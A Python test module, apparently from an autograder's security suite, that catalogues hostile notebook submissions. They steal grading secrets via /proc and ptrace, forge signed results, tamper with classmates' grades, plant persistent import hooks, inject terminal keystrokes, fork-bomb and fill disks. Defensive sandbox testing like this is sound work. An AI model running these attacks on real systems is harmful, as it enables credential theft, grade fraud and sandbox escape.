"""The attacks: one hostile submission per class, with the grade each one deserves.

Every attack is a student notebook built from the released exercise. Unless said
otherwise its three question-1 answer cells are honest (9 points) and the attack
sits in the question-2 answer cell, which defines no answer of its own: the row
deserves ``graded`` with 9 points and 0 on ``q2_feature_count``. An attack that
gets through either changes a grade (its own, through ``_won``, or a neighbour's),
or leaves evidence outside the gradebook that the suite checks.
"""

from __future__ import annotations

from dataclasses import dataclass, field

Q = ["q1_phi_p3", "q1_phi_p4", "q1_phi_general", "q2_feature_count"]
FULL = {q: 3.0 for q in Q}
ZERO = {q: 0.0 for q in Q}
NO_Q2 = {**FULL, "q2_feature_count": 0.0}


@dataclass
class Attack:
    name: str
    body: str  # code after the prelude
    per: dict[str, float] = field(default_factory=lambda: dict(NO_Q2))
    status: tuple[str, ...] = ("graded",)  # more than one only where the issue does not pin it
    cell: str = "q2-answer"
    why: str = ""
    raw: bytes | None = None  # a submission file that is not built from a notebook
    mutate: str | None = None  # name of a notebook mutation in the test module
    #: The row's messages must name the reason: at least one of these (case-insensitive).
    says: tuple[str, ...] = ()

    @property
    def score(self) -> float:
        return float(sum(self.per.values()))


# Code of background processes (``python -c CODE MARKER ...``); each one ends on its own
# (bounded loops) so that a failing run against an unsandboxed grader cleans up.
SURVIVOR = r'''
import os, sys, time, json
M = json.loads(sys.argv[2])
try:
    open(os.path.join(M["pids"], M["name"] + ".pid"), "w").write(str(os.getpid()))
except Exception:
    pass
deadline = time.time() + 600
def grader_alive():
    for e in os.listdir("/proc"):
        if e.isdigit():
            try:
                a = open(f"/proc/{e}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            if b"kpca_lib.course.cli" in a and b"grade" in a:
                return True
    return False
outs = [M["out"]] + [o for o in M.get("outs", [])]
while time.time() < deadline:
    for out in outs:
        csv = os.path.join(out, "grades.csv")
        if os.path.exists(csv) and not grader_alive():
            text = open(csv).read()
            lines = text.splitlines()
            new = [lines[0]] + [",".join(l.split(",")[:2] + ["12", "12"] + ["3"] * 4) for l in lines[1:]]
            open(csv, "w").write("\n".join(new) + "\n")
            open(os.path.join(M["pids"], M["name"] + ".edited"), "w").write(out)
            raise SystemExit
    time.sleep(0.2)
'''

SLEEPER = r'''
import sys, time
time.sleep(float(sys.argv[2]) if len(sys.argv) > 2 else 120)
'''

BUSY = r'''
import time
end = time.time() + 90
while time.time() < end:
    pass
'''

HOLD_MEMORY = r'''
import time
block = b"\x01" * 1_200_000_000
time.sleep(60)
'''


def _bg(code: str) -> str:
    return f"_spawn({code!r}, json.dumps(_M))\n"


KEY_REWRITER = r'''
import os, sys, json, time
M = json.loads(sys.argv[2])
mine = M["cwd"]
deadline = time.time() + 240
while time.time() < deadline:
    alive = [r for r in M["roots"] if os.path.isdir(r)]
    if not alive:
        break
    for root in alive:
        for dirpath, dirs, files in os.walk(root):
            if dirpath.startswith(mine):
                continue
            for f in files:
                if f == "grader-config.json" or f.endswith("config.json"):
                    p = os.path.join(dirpath, f)
                    try:
                        cfg = json.load(open(p))
                        if isinstance(cfg, dict) and "key" in cfg and cfg["key"] != "00" * 32:
                            cfg["key"] = "00" * 32
                            open(p, "w").write(json.dumps(cfg))
                    except Exception:
                        pass
    time.sleep(0.005)
'''

SIGNER = r'''
import os, sys, json, time, hmac, hashlib
M = json.loads(sys.argv[2])
from kpca_lib.course.grading.judge.evaluate import probe_payload
from kpca_lib.course.grading.judge.plain import decode, dumps
from kpca_lib.course.grading.judge.registry import get_question
ns = {}
for d in M["soldirs"]:
    try:
        cells = json.load(open(os.path.join(d, "01_feature_maps.ipynb")))["cells"]
    except Exception:
        continue
    for c in cells:
        if c.get("metadata", {}).get("kpca", {}).get("role") in ("setup", "question", "answer"):
            exec("".join(c["source"]), ns)
    break
mine = M["cwd"]
known = {}
deadline = time.time() + 240
while time.time() < deadline and ns:
    alive = [r for r in M["roots"] if os.path.isdir(r)]
    if not alive:
        break
    for root in alive:
        for dirpath, dirs, files in os.walk(root):
            if dirpath.startswith(mine) or "grader-config.json" not in files:
                continue
            try:
                cfg = json.load(open(os.path.join(dirpath, "grader-config.json")))
                known[dirpath] = cfg
            except Exception:
                pass
    for dirpath, cfg in known.items():
        try:
            key = bytes.fromhex(cfg["key"])
            for q, inp in cfg["inputs"].items():
                payload = probe_payload(get_question(q), ns, {k: decode(v) for k, v in inp.items()})
                text = dumps({"question": q, "answers": payload})
                mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
                with open(os.path.join(cfg["out"], q + ".json"), "w") as fh:
                    fh.write(json.dumps({"payload": text, "mac": mac}))
        except Exception:
            pass
    time.sleep(0.01)
'''

NOTEBOOK_REWRITER = r'''
import os, sys, json, time
M = json.loads(sys.argv[2])
sol = {}
for d in M["soldirs"]:
    try:
        cells = json.load(open(os.path.join(d, "01_feature_maps.ipynb")))["cells"]
    except Exception:
        continue
    sol = {c.get("id"): "".join(c["source"]) for c in cells
           if c.get("metadata", {}).get("kpca", {}).get("role") == "answer"}
    break
mine = M["cwd"]
done = set()
deadline = time.time() + 240
while time.time() < deadline:
    alive = [r for r in M["roots"] if os.path.isdir(r)]
    if not alive:
        break
    for root in alive:
        for dirpath, dirs, files in os.walk(root):
            for f in files:
                p = os.path.join(dirpath, f)
                if not f.endswith(".ipynb") or dirpath.startswith(mine) or p in done:
                    continue
                try:
                    nb = json.load(open(p))
                    for c in nb["cells"]:
                        src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                        cid = c.get("id")
                        if cid in sol:
                            c["source"] = sol[cid] if "NotImplementedError" in src else "pass"
                    open(p, "w").write(json.dumps(nb))
                    done.add(p)
                except Exception:
                    pass
    time.sleep(0.01)
'''

REPORT_FORGER = r'''
import os, sys, json, time, glob
M = json.loads(sys.argv[2])
deadline = time.time() + 240
def forge(report, notebooks):
    try:
        with open(report, "a") as fh:
            for nb in notebooks:
                for cell in range(0, 16):
                    fh.write(json.dumps({"file": nb, "cell": cell, "when": "call", "outcome": "failed",
                                         "alive": False, "text": "KernelDied: kernel died\nTimeout of 30 seconds exceeded"}) + "\n")
    except Exception:
        pass
while time.time() < deadline:
    alive = [r for r in M["roots"] if os.path.isdir(r)]
    if not alive:
        break
    reports, notebooks = [], []
    if M.get("report"):
        reports.append(M["report"])
    for root in alive:
        for dirpath, dirs, files in os.walk(root):
            for f in files:
                if f.endswith(".jsonl"):
                    reports.append(os.path.join(dirpath, f))
                elif f.endswith(".ipynb") and not dirpath.startswith(M["cwd"]):
                    notebooks.append(os.path.join(dirpath, f))
    for r in set(reports):
        forge(r, notebooks)
    time.sleep(0.05)
'''


def _planted_files(pids: str, soldirs: list[str]) -> dict[str, str]:
    from attack_prelude import PLANTED

    code = PLANTED.replace("__PIDS__", repr(pids)).replace("__SOLDIRS__", repr(soldirs))
    launcher = (
        code
        + "\nimport runpy, sys, os\n"
        "sys.path[:] = [p for p in sys.path if p not in ('', '.', os.getcwd())]\n"
        "sys.modules.pop('ipykernel_launcher', None)\n"
        "runpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n"
    )
    pth = "import os; exec(" + repr(code) + ")\n"
    return {"launcher": launcher, "startup": code, "site": code, "pth": pth}


PLANT_HELPERS = r'''
def _plant(dirs, kinds):
    n = 0
    for d in dirs:
        try:
            os.makedirs(d, exist_ok=True)
        except Exception:
            continue
        for kind in kinds:
            try:
                if kind == "launcher":
                    path = os.path.join(d, "ipykernel_launcher.py")
                elif kind == "startup":
                    path = os.path.join(d, ".ipython", "profile_default", "startup", "00-kpca.py")
                elif kind == "conftest":
                    path = os.path.join(d, "conftest.py")
                elif kind == "sitecustomize":
                    path = os.path.join(d, "sitecustomize.py")
                elif kind == "usercustomize":
                    path = os.path.join(d, "usercustomize.py")
                elif kind == "pth":
                    path = os.path.join(d, "zz-kpca.pth")
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as fh:
                    fh.write(_FILES["pth" if kind == "pth" else "launcher" if kind == "launcher" else "site"])
                n += 1
            except Exception:
                pass
    return n


def _future_dirs():
    """Folders the grader will use later, as far as they can be predicted from here."""
    out = []
    for root in _roots():
        parent = os.path.dirname(root)
        for k in range(4):
            for n in range(1, 25):
                out.append(os.path.join(root, f"job{k}-{n}"))
        for d in _walk():
            base = os.path.basename(d)
            if base.startswith("s") and base[1:].isdigit():
                out += [os.path.join(d, f"run{i}") for i in range(1, 5)]
            if base.startswith("run") or base.startswith("job"):
                out.append(d)
        for i in range(0, 80):
            out.append(os.path.join(root, f"s{i:04d}", "run2"))
    return out
'''


def catalog(cfg: dict) -> list[Attack]:
    """Every attack. ``cfg`` holds the paths of the hostile world (see the test module)."""
    files = _planted_files(cfg["pids"], cfg["soldirs"])
    plant = f"_FILES = {files!r}\n" + PLANT_HELPERS
    A: list[Attack] = []

    A.append(Attack("proc_exec_solutions", why="walk /proc to the grader, read solutions/ (argv, cwd) and exec it", body=r'''
d, answers = _solution_answers(_grader_info()["solutions"] + [_M["solutions"]])
for src in answers.values():
    exec(src, globals())
'''))

    A.append(Attack("package_solutions", why="solutions/ next to the installed (editable) package", body=r'''
import kpca_lib, glob
dirs = [os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(kpca_lib.__file__))), "solutions")]
for p in sys.path:
    dirs.append(os.path.join(os.path.dirname(p), "solutions"))
    dirs.append(os.path.join(p, "solutions"))
d, answers = _solution_answers(dirs)
for src in answers.values():
    exec(src, globals())
'''))

    A.append(Attack("proc_exec_classmate", why="a classmate's submission from the grader's argv", body=r'''
import glob
paths = _grader_info()["subs"] + glob.glob(os.path.join(_M["subs"], "*", "*.ipynb"))
for p in paths:
    try:
        cells = json.loads(_rd(p, text=True))["cells"]
    except Exception:
        continue
    ns = {}
    try:
        exec("import math, itertools\nimport numpy as np\n", ns)
        for c in cells:
            if c.get("id") == "q2-answer":
                exec("".join(c["source"]), ns)
        if ns["n_features"](3, 2) == 10:
            exec("import math", globals())
            n_features, kernel_cheaper = ns["n_features"], ns["kernel_cheaper"]
            break
    except Exception:
        continue
'''))

    A.append(Attack("leak_secrets", why="secret from ~/.config, /proc/<grader>/environ, own environ, "
                    "hidden checks, instructor notes; leaked through feedback, output, grader's fds", body=r'''
found = []
info = _grader_info()
for k, v in info["env"].items():
    if "SECRET" in k or "KEY" in k or "TOKEN" in k:
        found.append(v)
homes = [info["env"].get("HOME", ""), os.path.expanduser("~"), _M["home"]]
for h in homes:
    if h:
        found.append(_rd(os.path.join(h, ".config", "kpca-course", "grading-secret"), text=True).strip())
        found.append(_rd(os.path.join(h, ".bashrc"), text=True)[:200])
        found.append(_rd(os.path.join(h, "teaching", "notes.txt"), text=True)[:200])
for k, v in os.environ.items():
    if "SECRET" in k or "KEY" in k:
        found.append(v)
for e in os.listdir("/proc"):
    if e.isdigit():
        for kv in _rd(f"/proc/{e}/environ").split(b"\0"):
            if kv.startswith(b"KPCA_GRADING_SECRET="):
                found.append(kv.split(b"=", 1)[1].decode("utf-8", "replace"))
d, answers = _solution_answers()
for d in _solution_dirs():
    nb = _rd(os.path.join(d, "01_feature_maps.ipynb"), text=True)
    for line in nb.splitlines():
        if "canary" in line.lower():
            found.append(line.strip()[:120])
found = [f for f in dict.fromkeys(found) if f]
blob = " | ".join(found)[:1500]
print("LEAK", blob)
print("LEAK", blob, file=sys.stderr)
for pid in info["pids"]:
    for fd in (1, 2):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                fh.write("LEAK " + blob + "\n")
        except Exception:
            pass
def n_features(d, p):
    raise ValueError("LEAK " + blob)
def kernel_cheaper(d, p, n):
    raise ValueError("LEAK " + blob.encode().hex()[:1500])
'''))

    A.append(Attack("ptrace_memory", why="ptrace the grader; read /proc/<grader>/mem for the secret", body=r'''
import ctypes, re
libc = ctypes.CDLL(None, use_errno=True)
got = []
for pid in _grader_info()["pids"]:
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
        got.append("attach")
    try:
        maps = _rd(f"/proc/{pid}/maps", text=True).splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            budget = 64_000_000
            for line in maps:
                addr, perms = line.split()[:2]
                if "r" not in perms or budget <= 0:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                try:
                    mem.seek(lo)
                    chunk = mem.read(min(hi - lo, budget))
                except Exception:
                    continue
                budget -= len(chunk)
                for m in re.finditer(rb"KPCA_GRADING_SECRET=([^\0]{1,200})", chunk):
                    got.append(m.group(1).decode("utf-8", "replace"))
    except Exception:
        pass
print("LEAK", got)
if got:
    _won(got)
'''))

    A.append(Attack("rewrite_classmate_key", why="rewrite the HMAC key in the configs of chunk-mates", body=
        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots()\n" + _bg(KEY_REWRITER)))

    A.append(Attack("sign_for_blank", why="write correctly signed exports (solution answers) for classmates", body=
        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots(); _M['soldirs'] = _solution_dirs()\n"
        + _bg(SIGNER)))

    A.append(Attack("rewrite_classmate_notebook", why="rewrite the rebuilt notebooks of classmates in the scratch", body=
        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots(); _M['soldirs'] = _solution_dirs()\n"
        + _bg(NOTEBOOK_REWRITER)))

    A.append(Attack("plant_ipykernel_launcher", why="ipykernel_launcher.py in later run folders", body=plant + r'''
dirs = [os.path.dirname(p) for p in _walk({"submission.ipynb"})] + _future_dirs()
dirs = [d for d in dirs if not d.startswith(os.path.realpath(os.getcwd()))]
print("planted", _plant(dirs, ["launcher"]))
'''))

    A.append(Attack("plant_ipython_startup", why="IPython startup files in IPYTHONDIR, ~/.ipython, future folders", body=plant + r'''
info = _grader_info()
dirs = [os.path.dirname(os.environ.get("IPYTHONDIR", "/nonexistent/x")), os.path.expanduser("~")]
dirs += [os.path.dirname(d) for d in _walk() if d.endswith(".ipython")] + _future_dirs()
if info["env"].get("HOME"):
    dirs.append(info["env"]["HOME"])
print("planted", _plant(dirs, ["startup"]))
'''))

    A.append(Attack("plant_site_hooks", why="sitecustomize/usercustomize/.pth where a later python imports them; "
                    "inert probes in shared places", body=plant + r'''
import site, glob
info = _grader_info()
dirs = [os.getcwd(), os.environ.get("TMPDIR", "")] + _future_dirs()
user = [site.getusersitepackages()]
if info["env"].get("HOME"):
    v = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    user.append(os.path.join(info["env"]["HOME"], ".local", "lib", v, "site-packages"))
n = _plant([d for d in dirs if d], ["sitecustomize", "pth", "conftest"]) + _plant(user, ["usercustomize", "pth"])
shared = [p for p in sys.path if p and os.path.isdir(p)] + site.getsitepackages() + ["/tmp", "/dev/shm", "/var/tmp"]
for d in shared:
    try:
        open(os.path.join(d, MARKER + "-probe.txt"), "w").close()
        n += 1
    except Exception:
        pass
print("planted", n)
'''))

    A.append(Attack("plant_future_folders", why="conftest, IPython startup, launcher pre-planted in predictable "
                    "future chunk and run folders", body=plant + r'''
print("planted", _plant(_future_dirs(), ["launcher", "startup", "conftest", "sitecustomize"]))
'''))

    A.append(Attack("report_forge", why="forged nbval report records for classmates", body=
        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots()\n"
        "_M['report'] = os.environ.get('KPCA_REPORT_FILE', '')\n" + _bg(REPORT_FORGER)))

    A.append(Attack("channel_writer", why="answers left in /tmp, /dev/shm, TMPDIR, HOME for a later submission", body=r'''
for d in ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", ""), os.path.expanduser("~"),
          _grader_info()["env"].get("TMPDIR", "")] + _roots():
    if d:
        try:
            with open(os.path.join(d, MARKER + "-channel"), "w") as fh:
                fh.write(_M["honest_q2"])
        except Exception:
            pass
'''))

    A.append(Attack("setsid_survivor", why="double-forked setsid process that edits grades.csv after the grader", body=r'''
_M["outs"] = _grader_info()["out"]
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            env = dict(os.environ, KPCA_ATTACK_MARKER=MARKER)
            os.execve(sys.executable, [sys.executable, "-c", __SURVIVOR__, MARKER, json.dumps(_M)], env)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
'''.replace("__SURVIVOR__", repr(SURVIVOR))))

    A.append(Attack("symlink_bashrc", why="symlinks that make the grader overwrite ~/.bashrc", body=plant + r'''
info = _grader_info()
bashrc = os.path.join(info["env"].get("HOME", _M["home"]), ".bashrc")
mine = os.path.realpath(os.getcwd())
n = 0
def link(path):
    global n
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(bashrc, path)
        n += 1
    except Exception:
        pass
for p in _walk({"grader-config.json", "submission.ipynb", "pytest.ini"}):
    if not p.startswith(mine):
        link(p)
for d in _future_dirs():
    for f in ("pytest.ini", "grader-config.json", "submission.ipynb", "report.jsonl"):
        link(os.path.join(d, f))
for f in os.listdir("exports") if os.path.isdir("exports") else []:
    link(os.path.join("exports", f))
for o in info["out"]:
    for f in ("grades.csv", "grades.json"):
        link(os.path.join(o, f))
print("links", n)
'''))

    A.append(Attack("out_symlink_instructor", why="--out (from argv) made a symlink to the instructor's folder", body=r'''
info = _grader_info()
home = info["env"].get("HOME", _M["home"])
for o in info["out"] + [_M["out"]]:
    for target in (o, o.rstrip("/") + ".partial", os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".partial")):
        try:
            if not os.path.lexists(target):
                os.symlink(os.path.join(home, "teaching"), target)
        except Exception:
            pass
'''))

    A.append(Attack("pre_created_out", why="pre-created gradebook / resume folders with forged rows", body=r'''
info = _grader_info()
forged = "submission,status,score,max_score,q1_phi_p3,q1_phi_p4,q1_phi_general,q2_feature_count\n"
forged += _M["name"] + "/01_feature_maps.ipynb,graded,12,12,3,3,3,3\n"
for o in info["out"] + [_M["out"]]:
    names = [o, o + ".partial", o + ".tmp", o + ".resume", o + ".lock",
             os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".partial"),
             os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".tmp"),
             os.path.join(o, ".partial"), os.path.join(o, ".resume"), os.path.join(o, "rows")]
    for d in names:
        try:
            os.makedirs(d, exist_ok=True)
            open(os.path.join(d, "grades.csv"), "a").write(forged)
            open(os.path.join(d, "rows.jsonl"), "a").write(json.dumps({"submission": _M["name"], "score": 12}) + "\n")
            os.makedirs(os.path.join(d, "feedback"), exist_ok=True)
        except Exception:
            pass
'''))

    A.append(Attack("kill_parent", status=("crashed", "graded"),
                    why="SIGKILL of its parent (nbval's runner): its own run crashes, nobody else's",
                    body="os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(5)\n"))

    A.append(Attack("memory_children", status=("crashed",),
                    why="3 child processes x 1.2 GB under --memory 2048", body=r'''
kids = [_spawn(__HOLD__) for _ in range(3)]
for k in kids:
    k.wait()
'''.replace("__HOLD__", repr(HOLD_MEMORY))))

    A.append(Attack("memory_bomb", status=("crashed",),
                    why="the kernel itself allocates (and touches) memory until a limit stops it",
                    body="blocks = []\nwhile True:\n    blocks.append(bytearray(50_000_000))\n"))

    A.append(Attack("fork_bomb", why="150 processes", body=r'''
kids = 0
for _ in range(150):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            _set_comm(MARKER)
            time.sleep(120)
        finally:
            os._exit(0)
    kids += 1
print("forked", kids)
'''))

    A.append(Attack("write_2gb", status=("graded", "crashed"),
                    why="2 GB written to disk (cwd, then TMPDIR)", body=r'''
chunk = b"\0" * (8 << 20)
for d in [os.getcwd(), os.environ.get("TMPDIR", "/tmp")]:
    try:
        with open(os.path.join(d, MARKER + "-big.bin"), "wb") as fh:
            for _ in range(256):
                fh.write(chunk)
    except OSError:
        pass
'''))

    A.append(Attack("fill_disk", status=("graded", "crashed"),
                    why="fill every writable place (capped at 256 MB where the disk is big)", body=r'''
chunk = b"\0" * (4 << 20)
for d in [os.getcwd(), os.environ.get("TMPDIR", ""), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]:
    if not d:
        continue
    try:
        st = os.statvfs(d)
        total = st.f_blocks * st.f_frsize
        cap = st.f_bavail * st.f_frsize if total < 8e9 else 256 << 20
        with open(os.path.join(d, MARKER + "-fill.bin"), "wb") as fh:
            written = 0
            while written < cap:
                fh.write(chunk)
                written += len(chunk)
    except OSError:
        pass
'''))

    A.append(Attack("many_files", why="100 000 files", body=r'''
for d in [os.getcwd(), os.environ.get("TMPDIR", "/tmp")]:
    try:
        base = os.path.join(d, MARKER + "-many")
        os.makedirs(base, exist_ok=True)
        for i in range(50_000):
            open(os.path.join(base, str(i)), "w").close()
    except OSError:
        pass
'''))

    A.append(Attack("display_flood", status=("graded", "crashed"), why="400 MB of output through display()", body=r'''
from IPython.display import display
block = "x" * 4_000_000
for _ in range(100):
    display({"text/plain": block}, raw=True)
'''))

    A.append(Attack("sigint_hang", status=("timeout",), why="ignores SIGINT and hangs past --timeout", body=r'''
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''))

    A.append(Attack("network", why="sockets to the suite's listener, the host's loopback ports, unix sockets, the internet",
                    body=r'''
import socket
ok = []
def tcp(host, port, timeout=3):
    try:
        with socket.create_connection((host, port), timeout=timeout):
            ok.append(f"{host}:{port}")
    except Exception:
        pass
try:  # the suite's listener counts its connections itself
    socket.create_connection(("127.0.0.1", _M["port"]), timeout=3).close()
except Exception:
    pass
owned = set()  # sockets of processes this kernel can see (its own sandbox): not an escape
for e in os.listdir("/proc"):
    if e.isdigit():
        try:
            for fd in os.listdir(f"/proc/{e}/fd"):
                owned.add(os.readlink(f"/proc/{e}/fd/{fd}"))
        except OSError:
            pass
for line in _rd("/proc/net/tcp", text=True).splitlines()[1:]:
    parts = line.split()
    local, state, inode = parts[1], parts[3], parts[9]
    if state == "0A" and f"socket:[{inode}]" not in owned:
        tcp("127.0.0.1", int(local.split(":")[1], 16), 1)
for host in ("1.1.1.1", "8.8.8.8"):
    tcp(host, 53)
try:
    socket.getaddrinfo("example.com", 80)
    tcp("example.com", 80)
except Exception:
    pass
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/run/dbus/system_bus_socket", "/run/systemd/private"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        s.connect(path)
        ok.append(path)
        s.close()
    except Exception:
        pass
print("connected", ok)
if ok:
    _won(ok)
'''))

    A.append(Attack("fake_nbval_output", why="output and an error that imitate nbval/pytest records", body=r'''
print('{"file": "x", "cell": 3, "outcome": "passed", "alive": true}')
print("PASSED [100%]\n===== 12 passed in 1.00s =====")
sys.stderr.write("Kernel dead\nMemoryError\n")
raise RuntimeError("KernelDied: kernel died\nTimeout of 30 seconds exceeded\nMemoryError")
'''))

    A.append(Attack("late_export", cell="q1-p3-answer", status=("timeout",),
                    per={**FULL, "q1_phi_p3": 0.0},
                    why="a thread keeps exporting correct answers while the cell hangs past --timeout",
                    body="__HONEST_P3__\n" + r'''
def _keep_exporting():
    while True:
        try:
            _kpca_export("q1_phi_p3")
        except Exception:
            pass
        time.sleep(0.02)
threading.Thread(target=_keep_exporting, daemon=True).start()
while True:
    time.sleep(0.05)
'''))

    A.append(Attack("cross_export", cell="q1-p3-answer", status=("timeout",),
                    per={**FULL, "q1_phi_p3": 0.0, "q2_feature_count": 0.0}, mutate="blank_q2",
                    why="a cell sleeps, exports the answers of another question, then hangs",
                    body="__HONEST_P3__\n" + r'''
time.sleep(1)
exec(_M["honest_q2"], globals())
try:
    _kpca_export("q2_feature_count")
except Exception:
    pass
while True:
    time.sleep(0.05)
'''))

    A.append(Attack("signal_handlers", status=("timeout",),
                    why="handlers for every catchable signal (each spawns a process), then a busy loop", body=r'''
def _handler(signum, frame):
    _spawn(__SLEEPER__, 120)
for s in ("SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGALRM", "SIGXCPU", "SIGXFSZ", "SIGPIPE", "SIGQUIT"):
    try:
        signal.signal(getattr(signal, s), _handler)
    except Exception:
        pass
while True:
    pass
'''.replace("__SLEEPER__", repr(SLEEPER))))

    A.append(Attack("atexit_handlers", why="atexit and finalizers that start a grades.csv editor at kernel exit", body=r'''
import atexit, weakref
_M["outs"] = _grader_info()["out"]
def _later():
    try:
        _spawn(__SURVIVOR__, json.dumps(_M))
    except Exception:
        pass
atexit.register(_later)
class _Bomb:
    def __del__(self):
        _later()
_keep = _Bomb()
weakref.finalize(_keep, _later)
'''.replace("__SURVIVOR__", repr(SURVIVOR))))

    A.append(Attack("threads_persist", why="threads that keep running after the cell", body=r'''
def _loop():
    _set_comm(MARKER)
    end = time.time() + 240
    while time.time() < end:
        for p in _walk({"grades.csv"}):
            try:
                open(p, "a").write("forged,graded,12,12,3,3,3,3\n")
            except Exception:
                pass
        time.sleep(0.5)
threading.Thread(target=_loop).start()
threading.Thread(target=_loop, daemon=True).start()
'''))

    A.append(Attack("monkeypatch_export", why="export replaced; own exports re-signed with the key from its closure "
                    "as deep JSON, oversize payloads", body=r'''
_real = _kpca_export
cells = [c.cell_contents for c in (getattr(_real, "__closure__", None) or ())]
key = next((c for c in cells if isinstance(c, bytes) and len(c) == 32), None)
outdir = next((c for c in cells if hasattr(c, "joinpath")), None)
def _kpca_export(question):
    import hmac, hashlib
    _real(question)
    if key is None or outdir is None:
        return
    text = '{"question": "%s", "answers": %s}' % (question, "[" * 200_000 + "]" * 200_000)
    mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
    with open(os.path.join(str(outdir), question + ".json"), "w") as fh:
        fh.write(json.dumps({"payload": text, "mac": mac}))
'''))

    A.append(Attack("busy_children", why="CPU hogs that outlive the cell and starve neighbours", body=r'''
for _ in range(3):
    _spawn(__BUSY__)
'''.replace("__BUSY__", repr(BUSY))))

    A.append(Attack("host_escape_probes", why="opens (never writes) host devices, sysctls, cgroup files, sysrq; setuid",
                    body=r'''
ok = []
for path, flags in [("/dev/vda", os.O_RDONLY), ("/dev/sda", os.O_RDONLY), ("/dev/nvme0n1", os.O_RDONLY),
                    ("/dev/mem", os.O_RDONLY), ("/dev/kmsg", os.O_RDONLY),
                    ("/proc/sys/kernel/core_pattern", os.O_WRONLY), ("/proc/sysrq-trigger", os.O_WRONLY),
                    ("/sys/fs/cgroup/memory/cgroup.procs", os.O_WRONLY), ("/sys/fs/cgroup/cgroup.procs", os.O_WRONLY),
                    ("/sys/fs/cgroup/pids/cgroup.procs", os.O_WRONLY)]:
    try:
        fd = os.open(path, flags)  # opened only: nothing is written
        os.close(fd)
        ok.append(path)
    except Exception:
        pass
print("opened", ok)
if ok:
    _won(ok)
'''))

    A.append(Attack("inherited_fds", why="file descriptors leaked into the sandbox that reach host folders", body=r'''
ok = []
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if _M["world"] in target:
        try:
            if os.path.isdir(f"/proc/self/fd/{fd}"):
                os.listdir(int(fd))
            ok.append(target)
        except Exception:
            pass
print("fds", ok)
if ok:
    _won(ok)
'''))

    A.append(Attack("tiocsti", why="TIOCSTI keystrokes into the instructor's terminal", body=r'''
import fcntl, termios
ok = []
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError:
    pass
for fd in fds:
    try:
        for ch in f"echo {MARKER}-tiocsti\n":
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        ok.append(fd)
    except Exception:
        pass
if ok:
    _won(ok)
'''))

    A.append(Attack("proc_fd_tamper", why="writes through the grader's open file descriptors (/proc/<pid>/fd)", body=r'''
ok = []
for pid in _grader_info()["pids"]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.endswith((".csv", ".json", ".jsonl")) or "grades" in target:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "a") as fh:
                    fh.write("\nforged,graded,12,12,3,3,3,3\n")
                ok.append(target)
            except Exception:
                pass
if ok:
    _won(ok)
'''))

    A.append(Attack("ipc_symlink_redirect", status=("timeout", "crashed"),
                    why="its kernel's ipc socket folder swapped for a symlink to a host folder, then its "
                    "sockets closed so the trusted side reconnects (through /proc/<pid>/root)", body=r'''
import gc
try:
    from ipykernel.kernelapp import IPKernelApp
    prefix = json.load(open(IPKernelApp.instance().abs_connection_file))["ip"]
except Exception:
    prefix = "/tmp/.kpca-ipc/k"
d = os.path.dirname(prefix)
if _isolated_pid_ns() or d.startswith(_M["world"]):  # never another process's folder
    try:
        os.rename(d, d + ".old")
        os.symlink(_M["sockdir"], d)
    except OSError:
        pass
try:
    import zmq
    for obj in gc.get_objects():
        if isinstance(obj, zmq.Socket) and not obj.closed:
            try:
                obj.close(linger=0)
            except Exception:
                pass
except Exception:
    pass
time.sleep(120)
'''))

    A.append(Attack("huge_iopub_frame", status=("graded", "crashed"),
                    why="one 1.2 GB binary frame sent straight on its IOPub socket (the trusted side "
                    "must not buffer it)", body=r'''
try:
    k = get_ipython().kernel
    big = bytes(1_200_000_000)
    k.session.send(k.iopub_socket, "display_data", {"data": {"text/plain": "x"}, "metadata": {}},
                   parent=k.get_parent("shell"), buffers=[memoryview(big)])
    del big
except Exception as exc:
    print("failed", exc)
'''))

    A.append(Attack("symlink_to_secret", status=("invalid",), per=dict(ZERO), raw=b"symlink-secret",
                    says=SYMLINK, why="the submitted file is a symlink to the instructor's grading secret",
                    body=""))

    A.append(Attack("deep_json", status=("invalid",), per=dict(ZERO), raw=b"deep",
